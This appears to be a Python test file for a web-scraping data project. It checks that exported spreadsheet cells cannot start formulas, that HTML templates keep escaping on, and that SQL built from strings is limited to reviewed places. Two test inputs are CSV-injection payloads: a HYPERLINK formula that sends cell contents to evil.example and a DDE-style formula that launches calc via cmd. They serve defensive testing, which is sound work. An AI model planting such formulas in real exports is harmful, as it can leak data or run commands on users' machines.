"""Output safety: what came from the web never runs in a spreadsheet, a browser or SQL.

HTML escaping of the reports and the review desk is proven in tests/test_report.py and
tests/test_review.py (a <script> headline shows as text); this file adds the
spreadsheet rules for any text, and a guard on how SQL is built.
"""
from __future__ import annotations

import re
from pathlib import Path

import duckdb
from hypothesis import example, given, settings
from hypothesis import strategies as st

REPO = Path(__file__).resolve().parents[2]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
cells = st.one_of(st.text(max_size=40), st.sampled_from(DANGEROUS).flatmap(lambda c: st.text(max_size=30).map(lambda t: c + t)))


@settings(max_examples=200, deadline=None)
@given(cells)
@example('=HYPERLINK("http://evil.example/?"&A1,"Click")')
@example("@SUM(1+1)*cmd|' /C calc'!A0")
def test_csv_export_never_starts_a_formula(text):
    from warehouse.export import neutralised
    con = duckdb.connect()
    con.execute("CREATE TABLE t (title VARCHAR, n INTEGER)")
    con.execute("INSERT INTO t VALUES (?, 1)", [text])
    (out,) = con.execute(neutralised(con, "SELECT * FROM t")).fetchone()[:1]
    assert not out.startswith(DANGEROUS)
    assert out in (text, "'" + text)


def _as_stored(text: str) -> str:
    """Text as extraction stores it: control characters removed (pipelines/extract.py)."""
    from pipelines.extract import _printable
    return _printable(text)


@settings(max_examples=200, deadline=None)
@given(cells.map(_as_stored))
def test_report_cells_never_start_a_formula_and_stay_text_in_xlsx(text):
    from openpyxl import Workbook

    from flows.report import safe_cell
    value = safe_cell(text)
    assert not value.startswith(DANGEROUS)
    sheet = Workbook().active
    sheet.append([value])
    assert sheet["A1"].data_type == "s"         # openpyxl makes any "=..." string a formula


def test_report_cells_with_control_characters_still_write():
    """openpyxl refuses control characters (IllegalCharacterError): one such title stopped the whole XLSX."""
    from openpyxl import Workbook

    from flows.report import safe_cell
    Workbook().active.append([safe_cell("Título\x1f con control")])


def test_templates_never_switch_escaping_off():
    for template in (REPO / "flows" / "templates").glob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert "|safe" not in text.replace(" ", "") and "autoescape false" not in text, template.name
    report = "".join(p.read_text(encoding="utf-8") for p in sorted((REPO / "flows" / "report").glob("*.py")))
    assert "autoescape=True" in report                       # the one Jinja2 environment...
    review = "".join(p.read_text(encoding="utf-8") for p in sorted((REPO / "flows" / "desk").rglob("*.py")))
    assert "Environment(" not in review                      # ...which the review desk reuses
    assert "Markup(" not in report + review


# SQL built with f-strings or .format: each place below was read, and holds only identifiers and
# constants of our own (column lists, placeholders, escaped file paths), never text from the web.
# Web text always travels as a `?` parameter. A new place fails this test until it is reviewed.
REVIEWED_SQL_FSTRINGS = {
    ("warehouse/db.py", "ATTACH {sql_string(location.search_path)"),   # our own file path (lake.sql_string)
    ("warehouse/lake.py", "SELECT id FROM {alias}"),        # alias: a constant of the callers
    ("warehouse/lake.py", "SELECT value FROM {alias}"),
    ("warehouse/search.py", "ATTACH {sql_string(tmp)}"),    # our own file path (lake.sql_string)
    ("warehouse/search.py", "CREATE TABLE search_build.articles"),   # SEARCHABLE, a constant
    # ftsindex.create_index: table and stemmer names from search.STEMMERS, constants (and the
    # query file fts_index.sql, formatted with the same three names)
    ("warehouse/ftsindex.py", "ALTER TABLE {table} RENAME TO {full}"),
    ("warehouse/ftsindex.py", "CREATE TABLE {table} AS SELECT * FROM"),
    ("warehouse/ftsindex.py", "PRAGMA create_fts_index('{table}'"),
    ("warehouse/ftsindex.py", "DROP TABLE {table}"),
    ("warehouse/ftsindex.py", "ALTER TABLE {full} RENAME TO {table}"),
    ("warehouse/search.py", "CREATE TABLE {table} AS SELECT"),   # articles_<code>, code a key of STEMMERS
    ("warehouse/search.py", "WITH hits AS ({hits})"),       # one SELECT per index, named from STEMMERS; words are $params
    ("warehouse/export.py", "DESCRIBE {sql}"),              # EXPORTS constants
    ("warehouse/export.py", "SELECT {', '.join(parts)}"),   # column names from DESCRIBE of our views
    ("warehouse/export.py", "COPY ({sql})"),                # EXPORTS constants, path quoted
    ("warehouse/export.py", "COPY ({csv_sql})"),            # neutralised(as_csv_text(EXPORTS constant))
    ("warehouse/export.py", "SELECT count(*) FROM ({sql})"),   # EXPORTS constants
    ("warehouse/load.py", "INSERT INTO mentions VALUES"),   # '?' placeholders
    ("warehouse/load.py", "INSERT INTO articles_batch VALUES"),
    ("warehouse/load.py", "MERGE INTO articles"),           # ARTICLE_COLUMNS constants
    ("warehouse/bulk.py", "DESCRIBE {table}"),              # table names are constants of the callers
    ("warehouse/bulk.py", "INSERT INTO {table}"),           # rows travel in a JSON file read with read_json(?)
    ("warehouse/db.py", "SET search_path = {sql_string(path)}"),   # schema names matched against fts_main_articles(_xx)
    ("warehouse/db.py", "SET TimeZone"),                    # pipelines.vocabulary.TIMEZONE_NAME, a constant
    ("warehouse/db.py", 'DELETE FROM "{table}"'),           # prime_statistics: table names are the schema's own
    ("warehouse/db.py", 'DESCRIBE "{table}"'),
    ("warehouse/db.py", 'INSERT INTO "{table}"'),
    ("warehouse/db.py", 'SELECT count(*) FROM "{table}"'),
    ("warehouse/legacy/__init__.py", "ATTACH {sql_string(copy)}"),   # our own temporary copy (lake.sql_string)
    ("warehouse/legacy/__init__.py", "DETACH {ALIAS}"),     # ALIAS, a constant
    ("warehouse/legacy/__init__.py", 'INSERT INTO lake.main."{table}"'),   # the schema's table and column names
    ("warehouse/legacy/__init__.py", "SELECT count(*) FROM (SELECT * FROM lake"),
    ("warehouse/legacy/__init__.py", "SELECT count(*) FROM (SELECT * FROM {ALI"),
    ("warehouse/legacy/__init__.py", 'SELECT count(*) FROM {database}.main."{t'),
    ("warehouse/load.py", "INSERT INTO articles ({"),       # ARTICLE_COLUMNS constants
    ("warehouse/tally.py", "DETACH DATABASE IF EXISTS {SNAPSHOT_ALIA"),   # SNAPSHOT_ALIAS, a constant
    ("warehouse/tally.py", "USE {SNAPSHOT_ALIAS}"),
}
_SQL_FSTRING = re.compile(r"""\b(?:execute|executemany|sql|query)\s*\(\s*f(?:\"\"\"|\"|')\s*(.{0,40})""", re.S)


def test_sql_is_parameterised():
    found = set()
    for folder in ("warehouse", "flows", "pipelines", "nlp", "spiders"):
        for path in (REPO / folder).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            for match in _SQL_FSTRING.finditer(source):
                start = " ".join(match.group(1).split())
                rel = str(path.relative_to(REPO))
                if not any(rel == f and start.startswith(s) for f, s in REVIEWED_SQL_FSTRINGS):
                    found.add((rel, start))
    assert not found, f"SQL built from strings, to review (parameterise web text with ?): {sorted(found)}"
